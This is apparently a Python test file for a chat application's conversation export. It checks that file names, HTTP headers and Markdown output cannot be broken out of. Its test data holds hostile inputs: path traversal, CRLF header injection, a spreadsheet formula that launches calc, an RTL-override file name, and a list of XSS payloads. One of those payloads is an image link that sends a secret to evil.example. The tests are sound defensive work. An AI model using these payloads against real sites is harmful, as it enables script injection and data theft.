"""Exports of a talk: names of files, Markdown that cannot be broken out of, JSON lines."""

import json
import re
from collections.abc import Callable
from typing import Any

import pytest

from rantau.web.records.models import Message, Talk
from rantau.web.talks import markdown
from rantau.web.talks.attachments import file_name


def saved(page: Any, talk: Talk, kind: str) -> Any:
    said = page.client.get(f"/api/talks/{talk.id}/export?format={kind}")
    assert said.status_code == 200 and said["Content-Disposition"].startswith("attachment; ")
    assert said["X-Content-Type-Options"] == "nosniff"
    return said


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Apa kabar?", "Apa-kabar"), ("../../etc/passwd", "etc-passwd"), ("C:\\x\\y.exe", "C-x-y-exe"), ("",
        "talk"),
        ("a\r\nSet-Cookie: b", "a-Set-Cookie-b"), ('x"; filename="y.html', "x-filename-y-html"), ("CON", "talk"),
        ("...", "talk"), ("=cmd|'/c calc'!A1", "cmd-c-calc-A1"), ("서울 날씨", "서울-날씨"), ("a" * 200, "a" * 60),
        ("nul", "talk"), ("-rf", "rf"), ("ca\u202efdp.exe", "ca-fdp-exe"), ("~root", "root"),
    ],
)  # fmt: skip
def test_a_title_names_a_file_and_nothing_else(title: str, name: str) -> None:
    assert file_name(title) == name


def test_a_malicious_title_stays_in_its_header(page: Any, owner: Any) -> None:
    talk = Talk.objects.create(owner=owner, title='x"\r\nX-Evil: 1; filename=../a.html 서울')
    said = saved(page, talk, "json")
    assert said["Content-Disposition"].endswith("x-X-Evil-1-filename-a-html-%EC%84%9C%EC%9A%B8.json")
    assert "X-Evil" not in said.headers and said["Content-Type"] == "application/json"


def test_markdown_is_read_as_it_was_written(page: Any, owner: Any, exchange: Callable[..., Any]) -> None:
    talk = Talk.objects.create(owner=owner, title="Daftar *belanja*", system_prompt="Singkat.")
    exchange(
        talk, "Buat daftar:\n# apa saja", "## Belanja\n\n- telur\n- **susu**\n\n```py\nif a < b:\n    pass\n```"
    )
    text = saved(page, talk, "md").content.decode()
    assert text.startswith("# Daftar \\*belanja\\*\n\n")
    assert "## System prompt\n\n> Singkat\\.\n" in text
    assert "## Question\n\n> Buat daftar\\:\\\n> \\# apa saja\n" in text
    assert "## Answer: Demo\n\n> ## Belanja\n>\n> - telur\n> - **susu**\n>\n> ```py\n> if a < b:\n" in text


EVIL = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![x](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: https://evil.example/pixel", "[klik](javascript:alert(1))", "[klik](\njavascript:alert(1))",
    "[a]: javascript:alert(1)\n[a]", "[a](&#106;avascript:alert(1))", "<javascript:alert(1)>", "\\<b>", "`<b>`",
    "```\n<b>\n", "~~~ `x`\n<b>", "```html\n<b>\n```\n<b>", "    ```\n<b>", "[klik](data:text/html,x)", "> <b>",
    "a\r# Question\r<b>", "[x\ny]: vbscript:x\n[x y]", "```\na\n````\n<b>", "``` `\n<b>", "- ```\n  x\n<b>",
]  # fmt: skip


@pytest.mark.parametrize("text", EVIL)
def test_nothing_in_an_answer_loads_or_runs(text: str) -> None:
    """As another parser reads it, raw HTML allowed: text, and links that were checked."""
    parser = pytest.importorskip("markdown_it", reason="markdown-it-py is not installed")
    made = markdown.answered(text)
    for line in made.split("\n"):
        assert line.startswith(">") and "\r" not in line
    parsed = parser.MarkdownIt("commonmark", {"html": True})
    parsed.validateLink = lambda _: True  # type: ignore[method-assign]
    for token in _all(parsed.parse(f"{made}\n\n## Question")):
        assert token.type not in ("html_block", "html_inline", "image"), made
        if token.type == "link_open":
            assert re.match("https?:|mailto:", str(token.attrGet("href"))), made
    headings = [t for t in parsed.parse(f"{made}\n\n## Question") if t.type == "heading_open" and t.level == 0]
    assert len(headings) == 1


def _all(tokens: Any) -> Any:
    for token in tokens:
        yield token
        yield from _all(token.children or ())


def test_what_people_wrote_is_plain_text() -> None:
    parser = pytest.importorskip("markdown_it", reason="markdown-it-py is not installed")
    text = "\n".join(EVIL) + "\n1. satu\n- dua\n===\n| a |\n***\n&amp; $x$ https://evil.example @x"
    parsed = parser.MarkdownIt("commonmark", {"html": True}).parse(markdown.asked(text))
    kinds = {token.type for token in _all(parsed)}
    assert kinds <= {
        "blockquote_open", "blockquote_close", "paragraph_open", "paragraph_close", "inline", "text", "hardbreak",
        "softbreak", "text_special",
    }  # fmt: skip
    words = "".join(t.content for t in _all(parsed) if t.type in ("text", "text_special"))
    assert words == "".join(line.strip() for line in re.split("\r|\n", text))


def test_lines_are_one_conversation_for_each_last_answer(
    page: Any, owner: Any, exchange: Callable[..., Any]
) -> None:
    talk = Talk.objects.create(owner=owner, title="t", system_prompt="S")
    _, first = exchange(talk, "satu", "A")
    exchange(talk, "dua", "B", parent=first)
    exchange(talk, "dua lagi", "C", parent=first)
    rows = [json.loads(line) for line in saved(page, talk, "jsonl").content.decode().splitlines()]
    assert [[m["content"] for m in row["messages"]] for row in rows] == [
        ["S", "satu", "A", "dua", "B"], ["S", "satu", "A", "dua lagi", "C"],
    ]  # fmt: skip
    assert rows[0]["model"] == "demo" and rows[0]["revision"] == "sha256:aa"


def test_both_sides_are_lines(page: Any, owner: Any, exchange: Callable[..., Any]) -> None:
    talk = Talk.objects.create(owner=owner, mode="compare")
    question, *_ = exchange(talk, "satu", "kiri", "kanan")
    exchange(talk, "dua", "KIRI", "KANAN", parent=question)
    rows = [json.loads(line) for line in saved(page, talk, "jsonl").content.decode().splitlines()]
    assert [[row["side"], *(m["content"] for m in row["messages"])] for row in rows] == [
        ["a", "satu", "kiri", "dua", "KIRI"], ["b", "satu", "kanan", "dua", "KANAN"],
    ]  # fmt: skip
    text = saved(page, talk, "md").content.decode()
    assert "## Answer A: Base\n\n> kiri" in text and "## Answer B: Demo\n\n> KANAN" in text


def test_a_blind_round_keeps_its_secret(page: Any, blind: Talk) -> None:
    for kind in ("md", "json", "jsonl"):
        text = saved(page, blind, kind).content.decode()
        assert "kiri" in text and not re.search("demo|sha256|Base", text, re.IGNORECASE), kind


def test_the_branch_in_the_text_is_the_newest(page: Any, owner: Any, exchange: Callable[..., Any]) -> None:
    talk = Talk.objects.create(owner=owner, title="t")
    exchange(talk, "lama", "jawaban lama")
    exchange(talk, "baru", "jawaban baru")
    text = saved(page, talk, "md").content.decode()
    assert "jawaban baru" in text and "lama" not in text


def test_an_export_of_an_answer_to_come(page: Any, owner: Any, site: Any) -> None:
    from rantau.web.talks.submit import submit

    talk = Talk.objects.create(owner=owner)
    submit(owner, talk, text="halo", client_id="c", parent=None)
    assert saved(page, talk, "md").content.decode().rstrip().endswith("> halo")
    assert saved(page, talk, "jsonl").content == b""
    assert Message.objects.filter(state="queued").count() == 1


def test_exports_that_are_none(page: Any, stranger_page: Any, owner: Any) -> None:
    path = f"/api/talks/{Talk.objects.create(owner=owner).id}/export"
    assert page("GET", f"{path}?format=csv")[0] == 400
    assert stranger_page("GET", f"{path}?format=json")[0] == 404


@pytest.mark.parametrize("line", ["~" * 100_000 + "`", "~~~" + "a" * 100_000 + "`", "~~~" + " " * 100_000 + "`"])
def test_a_long_line_takes_no_longer_than_many_short_ones(line: str) -> None:
    """In the square of its length this would take minutes, in which nobody else is answered."""
    assert markdown.answered(line) == f"> {line}"
